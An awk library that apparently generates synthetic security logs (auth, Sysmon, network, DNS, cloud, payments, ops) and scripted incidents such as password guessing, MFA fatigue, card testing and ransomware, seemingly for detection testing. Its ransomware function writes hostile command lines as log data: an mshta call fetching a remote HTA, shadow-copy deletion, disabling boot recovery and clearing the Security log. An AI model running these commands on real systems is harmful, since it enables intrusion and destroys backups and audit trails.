# Events and incidents, for day.awk and live.awk. Times are seconds after `base`, seconds since 1970; `at` is when an incident
# begins.

function chance(n) { seed = (seed * 16807) % 2147483647; return seed % n }
function text(name, value) { return "\"" name "\":\"" value "\"" }

# Keeps an event until its second is written.
function emit(stream, second, fields) {
    waiting[second]++
    line[second, waiting[second]] = fields
    file[second, waiting[second]] = stream
}

# Writes the events of a second, in the order in which they were kept.
function write(second,    i, time) {
    time = strftime("%Y-%m-%dT%H:%M:%SZ", base + second, 1)
    for (i = 1; i <= waiting[second]; i++) {
        print "{\"ts\":\"" time "\"," line[second, i] "}" > (out "/" file[second, i] ".ndjson")
        delete line[second, i]
        delete file[second, i]
    }
    delete waiting[second]
}

# Events.

function login(second, user, address, host, outcome) {
    emit("auth", second, text("action", "login") "," text("outcome", outcome) "," text("user", user) "," \
        text("src_ip", address) "," text("host", host) "," text("country", address ~ /^198/ ? "SG" : "DE"))
}
function account(second, user, action, outcome, address) {
    emit("auth", second, text("action", action) "," text("outcome", outcome) "," text("user", user) \
        (address == "" ? "" : "," text("src_ip", address)))
}
# A process identifier tells the host and the user.
function process(second, id, parent, image, command) {
    emit("sysmon", second, "\"EventID\":1," text("Hostname", "WS-" id % 40) "," text("User", "user" id % 40) "," \
        text("ProcessGuid", "{" id "}") "," text("ParentProcessGuid", "{" parent "}") "," \
        text("Image", "C:\\\\Windows\\\\System32\\\\" image) "," text("CommandLine", command))
}
function connection(second, from, to, port, bytes, state) {
    emit("network", second, text("src_ip", from) "," text("dst_ip", to) ",\"dst_port\":" port ",\"bytes_out\":" bytes "," \
        text("state", state))
}
function query(second, from, domain, name) {
    name = name "." domain
    emit("dns", second, text("src_ip", from) "," text("domain", domain) "," text("query", name) ",\"query_length\":" length(name))
}
function call(second, account_number, actor, name, more) {
    emit("cloud", second, text("account", account_number) "," text("actor", actor) "," text("eventName", name) more)
}
function pay(second, type, account_name, more) {
    emit("payments", second, text("type", type) "," text("account", account_name) more)
}
function charge(second, account_name, card, amount) {
    pay(second, "charge", account_name, "," text("card", card) ",\"amount\":" amount "," text("status", "approved"))
}
function service(second, name, kind, more) {
    emit("ops", second, text("host", "node-1") "," text("service", name) "," text("kind", kind) more)
}

# Incidents.

# An address guesses passwords, gets in and adds a second factor of its own.
function guessed_password(at, user, address,    i) {
    for (i = 0; i < 7; i++) login(at + 5 * i, user, address, "vpn", "failure")
    login(at + 50, user, address, "vpn", "success")
    account(at + 300, user, "mfa_device_added", "success", address)
}
# Push prompts until the user gives in.
function tired_user(at, user, address,    i) {
    for (i = 0; i < 5; i++) account(at + 30 * i, user, "mfa_push", "denied")
    account(at + 160, user, "mfa_push", "approved", address)
}
# A script host starts PowerShell, which looks around and prepares for encryption.
function ransomware(at, id) {
    process(at, id, id - 6, "mshta.exe", "mshta http://203.0.113.9/a.hta")
    process(at + 1, id + 40, id, "powershell.exe", "powershell -w hidden")
    process(at + 30, id + 80, id + 40, "whoami.exe", "whoami /all")
    process(at + 42, id + 120, id + 40, "ipconfig.exe", "ipconfig /all")
    process(at + 60, id + 160, id + 40, "net.exe", "net localgroup administrators")
    process(at + 300, id + 200, id + 40, "vssadmin.exe", "vssadmin delete shadows /all /quiet")
    process(at + 305, id + 240, id + 40, "bcdedit.exe", "bcdedit /set {default} recoveryenabled no")
    process(at + 311, id + 280, id + 40, "wevtutil.exe", "wevtutil cl Security")
}
# An implant calls home once a minute.
function implant(at, from, to,    i) {
    for (i = 0; i < 12; i++) connection(at + 60 * i + i % 3, from, to, 8443, 312, "established")
}
# A bucket is made public and stays so.
function public_bucket(at, account_number, actor, bucket) {
    call(at, account_number, actor, "PutBucketAcl", ",\"requestParameters\":{" text("bucketName", bucket) "," \
        text("acl", "public-read") "}")
}
# The audit trail is stopped, and then what it would have shown is done.
function stopped_trail(at, account_number, actor) {
    call(at, account_number, actor, "StopLogging")
    call(at + 200, account_number, actor, "GetSecretValue")
    call(at + 300, account_number, actor, "CreateSnapshot")
}
# A stolen card is tried and emptied.
function stolen_card(at, account_name, card,    i) {
    for (i = 0; i < 4; i++) charge(at + 40 * i, account_name, card, 1)
    charge(at + 300, account_name, card, 940)
}
# A service stops and stays down.
function stopped_service(at, name) { service(at, name, "service_stopped", "," text("reason", "oom")) }
# A service crashes three times.
function crashing_service(at, name,    i) {
    for (i = 0; i < 3; i++) {
        service(at + 90 * i, name, "service_crashed", ",\"exit_code\":139")
        service(at + 10 + 90 * i, name, "service_started")
    }
}
